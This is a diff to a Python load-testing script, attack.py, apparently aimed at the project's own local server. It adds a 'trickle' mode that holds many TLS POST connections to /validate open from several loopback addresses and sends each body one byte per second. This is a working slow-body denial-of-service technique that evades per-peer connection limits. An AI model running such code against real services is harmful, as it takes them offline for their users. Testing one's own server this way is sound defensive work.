@@ -10,7 +10,13 @@ SECONDS and by the connection count; prints one summary line.
                                                 second; reopened when answered or closed
   attack.py large PORT COUNT SECONDS BODY_FILE  COUNT TLS keep-alive connections posting BODY_FILE
                                                 to /v1/decide as fast as they can
+  attack.py trickle PORT COUNT SECONDS [ADDRS]  COUNT TLS connections spread over ADDRS addresses
+                                                (8: 127.0.0.2-127.0.0.9, each within its share of
+                                                64) sending the head of a POST to /validate, then
+                                                its body a byte a second (no per-peer body rate
+                                                applies there); reopened when answered or closed
 """
+import asyncio
 import selectors
 import socket
 import ssl
@@ -138,6 +144,53 @@ def slow(port, count, seconds):
           + ", ".join(f"{k}: {v}" for k, v in sorted(counts.items(), key=str)))
 
 
+def trickle(port, count, seconds, addrs):
+    """Trickled /validate bodies from `addrs` addresses, in one thread (asyncio): the attacker
+    takes one thread's share of the machine, not one per connection."""
+    counts = {}
+
+    def note(what):
+        counts[what] = counts.get(what, 0) + 1
+
+    async def one(i, end):
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        context.check_hostname = False
+        context.verify_mode = ssl.CERT_NONE
+        source = f"127.0.0.{2 + i % addrs}"
+        while time.monotonic() < end:
+            writer = None
+            try:
+                reader, writer = await asyncio.wait_for(asyncio.open_connection(
+                    HOST, port, ssl=context, server_hostname="localhost",
+                    local_addr=(source, 0)), timeout=10)
+                writer.write(b"POST /validate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+                             b"Content-Length: 100000\r\n\r\n{")
+                answered = None
+                while time.monotonic() < end and answered is None:
+                    try:
+                        line = await asyncio.wait_for(reader.readline(), timeout=1)
+                        answered = int(line.split(b" ")[1]) if line else "closed"
+                    except asyncio.TimeoutError:
+                        writer.write(b" ")
+                        await writer.drain()
+                note(answered if answered is not None else "still trickling at the end")
+            except (OSError, asyncio.TimeoutError, ssl.SSLError, IndexError, ValueError) as e:
+                note(type(e).__name__)
+                await asyncio.sleep(0.01)
+            finally:
+                if writer is not None:
+                    writer.close()
+
+    async def main():
+        end = time.monotonic() + seconds
+        await asyncio.gather(*(one(i, end) for i in range(count)))
+
+    asyncio.run(main())
+    print(f"trickle: {count} trickled /validate bodies from {addrs} addresses (127.0.0.2-"
+          f"127.0.0.{1 + addrs}), one thread, for {seconds} s: "
+          + ", ".join(f"{k}: {v}" for k, v in sorted(counts.items(), key=str)))
+
+
 def large(port, count, seconds, body_file):
     body = open(body_file, "rb").read()
     head = (f"POST /v1/decide HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
@@ -189,5 +242,9 @@ if __name__ == "__main__":
         slow(port, count, seconds)
     elif mode == "large":
         large(port, count, seconds, sys.argv[5])
+    elif mode == "trickle":
+        addrs = int(sys.argv[5]) if len(sys.argv) > 5 else 8
+        assert 1 <= addrs <= 250, "addresses 127.0.0.2 onwards, at most 250"
+        trickle(port, count, seconds, addrs)
     else:
-        sys.exit(f"unknown attack `{mode}`: idle, slow or large")
+        sys.exit(f"unknown attack `{mode}`: idle, slow, large or trickle")
